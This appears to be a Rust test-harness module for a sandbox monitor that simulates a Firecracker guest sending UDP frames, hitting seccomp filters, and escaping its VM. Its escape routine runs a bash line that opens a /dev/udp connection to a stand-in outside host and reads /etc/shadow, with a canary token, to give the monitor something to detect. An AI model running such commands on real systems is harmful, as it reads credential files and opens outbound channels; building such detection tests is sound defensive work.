//! What a VMM has open, and what its guest would send.

use super::tcp;
use sandtrace_sys::seccomp;
use sandtrace_sys::tap::Tap;
use std::collections::BTreeMap;
use std::fs::{File, OpenOptions};
use std::os::fd::AsFd;
use std::process::{Command, Stdio};
use std::sync::{Arc, Condvar, Mutex, MutexGuard, PoisonError};
use std::time::Duration;

/// Taps and drives of one VM.
#[derive(Debug, Default)]
pub(super) struct Machine {
    /// By their ids, as drives are: one that is given again takes the place of
    /// the first.
    taps: BTreeMap<String, Tap>,
    drives: BTreeMap<String, File>,
    pub(super) boot_args: String,
    brake: Arc<Brake>,
}

/// What holds the guest up while its VM is paused.
#[derive(Debug, Default)]
struct Brake {
    paused: Mutex<bool>,
    changed: Condvar,
}

impl Brake {
    /// Returns when the guest is at rest: it sends with the lock in its hands.
    fn set(&self, paused: bool) {
        *self.paused.lock().unwrap_or_else(PoisonError::into_inner) = paused;
        self.changed.notify_all();
    }

    /// Waits until the guest may run. It is not paused while this is held.
    fn pass(&self) -> MutexGuard<'_, bool> {
        let paused = self.paused.lock().unwrap_or_else(PoisonError::into_inner);
        let passed = self.changed.wait_while(paused, |paused| *paused);
        passed.unwrap_or_else(PoisonError::into_inner)
    }
}

impl Machine {
    pub(super) fn open_drive(
        &mut self,
        id: &str,
        path: &str,
        read_only: bool,
    ) -> Result<(), String> {
        let mut options = OpenOptions::new();
        let file = options.read(true).write(!read_only).open(path);
        let file = file.map_err(|error| format!("drive {path}: {error}"))?;
        self.drives.insert(id.to_owned(), file);
        Ok(())
    }

    /// Pauses the guest, or lets it go on.
    pub(super) fn pause(&self, paused: bool) {
        self.brake.set(paused);
    }

    pub(super) fn open_tap(&mut self, id: &str, name: &str) -> Result<(), String> {
        // It may be the same tap, which only one can hold.
        self.taps.remove(id);
        let tap = Tap::open(name).map_err(|error| format!("tap {name}: {error}"))?;
        self.taps.insert(id.to_owned(), tap);
        Ok(())
    }

    /// Starts what stands for the guest. Its kernel's command line says what
    /// it sends: `standin.delay_ms`, `standin.gap_ms` and `standin.frames`; and
    /// with `standin.forbidden_ms` when its vCPU meets its seccomp filter, or with
    /// `standin.confined_ms` when all threads get one that they do not meet, and
    /// with `standin.escape_ms` when its guest gets out, and with `standin.tcp` which
    /// address and port its first tap's guest has one TCP conversation with first. It sends on every tap. Its thread has the name of the real VMM's `vcpu`.
    pub(super) fn start(&self, vcpu: &str) -> Result<(), String> {
        let value = |name: &str| {
            let mut words = self.boot_args.split_whitespace();
            words.find_map(|word| word.strip_prefix(name)?.strip_prefix('='))
        };
        let number = |name: &str| value(name)?.parse::<u64>().ok();
        if let Some(after) = number("standin.forbidden_ms") {
            meet_filter(Duration::from_millis(after))?;
        }
        if let Some(after) = number("standin.escape_ms") {
            escape(vcpu, Duration::from_millis(after))?;
        }
        let taps = self
            .taps
            .values()
            .map(|tap| tap.as_fd().try_clone_to_owned());
        let taps: Result<Vec<_>, _> = taps.map(|tap| tap.map(File::from)).collect();
        let taps = taps.map_err(|error| error.to_string())?;
        let delay = Duration::from_millis(number("standin.delay_ms").unwrap_or(50));
        let gap = Duration::from_millis(number("standin.gap_ms").unwrap_or(1000));
        let frames = number("standin.frames").unwrap_or(0);
        let to = value("standin.tcp").and_then(|address| address.parse().ok());
        let vcpu = std::thread::Builder::new().name(vcpu.to_owned());
        let brake = Arc::clone(&self.brake);
        let guest = vcpu.spawn(move || {
            std::thread::sleep(delay);
            if let (Some(to), Some(tap)) = (to, taps.first()) {
                // Where nobody answers it gives up, as a guest would.
                let _ = tcp::converse(tap, to);
            }
            for number in 0..frames {
                let running = brake.pass();
                for tap in &taps {
                    // A tap that is down takes nothing, as a wire would.
                    let _ = std::io::Write::write(&mut &*tap, &frame(number));
                }
                drop(running);
                std::thread::sleep(gap);
            }
            // A vCPU lasts as long as its VM.
            loop {
                std::thread::park();
            }
        });
        guest.map_err(|error| format!("start a thread: {error}"))?;
        if let Some(after) = number("standin.confined_ms") {
            std::thread::spawn(move || {
                std::thread::sleep(Duration::from_millis(after));
                seccomp::forbid_getpgid_everywhere()
            });
        }
        Ok(())
    }
}

/// A vCPU's thread with a filter of its own that makes the forbidden call
/// (getpgid) after a while: the end of a Firecracker whose guest got hold of it.
fn meet_filter(after: Duration) -> Result<(), String> {
    seccomp::exit_like_firecracker().map_err(|error| format!("handle SIGSYS: {error}"))?;
    let vcpu = std::thread::Builder::new().name("fc_vcpu 0".to_owned());
    let confined = vcpu.spawn(move || {
        seccomp::forbid_getpgid()?;
        std::thread::sleep(after);
        std::io::Result::Ok(rustix::process::getpgid(None)?)
    });
    confined
        .map(drop)
        .map_err(|error| format!("start a thread: {error}"))
}

/// As the lab has it: nothing that is written about a sandbox may hold this.
const CANARY: &str = "CANARY-7f3a";

/// What a guest does that got hold of its VMM: one process connects out, opens
/// what it should not, and stays.
const HELPER: &str = "exec 3<>/dev/udp/203.0.113.9/53; read -n1 x </etc/shadow; exec sleep 600";

/// A vCPU's thread that starts a helper after a while.
fn escape(vcpu: &str, after: Duration) -> Result<(), String> {
    let vcpu = std::thread::Builder::new().name(vcpu.to_owned());
    let taken = vcpu.spawn(move || {
        std::thread::sleep(after);
        let mut helper = Command::new("/bin/bash");
        // Whose variables and arguments are nobody's business.
        helper.args(["-c", HELPER, "helper", "--env"]);
        helper.arg(format!("TOKEN={CANARY}")).env("TOKEN", CANARY);
        helper.stdin(Stdio::null()).status()
    });
    taken
        .map(drop)
        .map_err(|error| format!("start a thread: {error}"))
}

/// A UDP datagram of 100 bytes from 169.254.0.21 to 203.0.113.7, its port
/// another one every 16 frames.
fn frame(number: u64) -> Vec<u8> {
    const PAYLOAD: u16 = 100;
    let port = 9000 + u16::try_from(number / 16 % 1000).unwrap_or(0);
    let mut ip = vec![0x45, 0];
    ip.extend((28 + PAYLOAD).to_be_bytes());
    ip.extend([0, 0, 0x40, 0, 64, 17, 0, 0]);
    ip.extend([169, 254, 0, 21, 203, 0, 113, 7]);
    let sum = checksum(&ip);
    ip.splice(10..12, sum.to_be_bytes());
    let mut frame = vec![2, 0xfc, 0, 0, 0, 1, 2, 0xfc, 0, 0, 0, 5, 8, 0];
    frame.extend(ip);
    frame.extend(40_000_u16.to_be_bytes());
    frame.extend(port.to_be_bytes());
    frame.extend((8 + PAYLOAD).to_be_bytes());
    frame.extend([0, 0]);
    frame.resize(frame.len() + usize::from(PAYLOAD), b'x');
    frame
}

/// RFC 1071.
pub(super) fn checksum(bytes: &[u8]) -> u16 {
    let (words, rest) = bytes.as_chunks::<2>();
    let words = words.iter().map(|word| u16::from_be_bytes(*word));
    // An odd last byte is the upper half of a word.
    let last = rest.first().map(|byte| u16::from_be_bytes([*byte, 0]));
    let sum: u32 = words.chain(last).map(u32::from).sum();
    let folded = (sum & 0xffff) + (sum >> 16);
    let folded = (folded & 0xffff) + (folded >> 16);
    !u16::try_from(folded).unwrap_or(0)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_are_whole() {
        let frame = frame(17);
        assert_eq!(frame.len(), 14 + 20 + 8 + 100);
        // A header with its checksum in it sums to zero.
        assert_eq!(checksum(&frame[14..34]), 0);
        assert_eq!(&frame[36..38], &9001_u16.to_be_bytes());
    }

    #[test]
    fn a_guest_that_is_paused_does_nothing() {
        let brake = Arc::new(Brake::default());
        drop(brake.pass());
        brake.set(true);
        let (sender, sent) = std::sync::mpsc::channel();
        let guest = Arc::clone(&brake);
        let guest = std::thread::spawn(move || {
            drop(guest.pass());
            sender.send(()).unwrap();
        });
        assert!(sent.recv_timeout(Duration::from_millis(50)).is_err());
        brake.set(false);
        sent.recv_timeout(Duration::from_secs(10)).unwrap();
        guest.join().unwrap();
    }
}
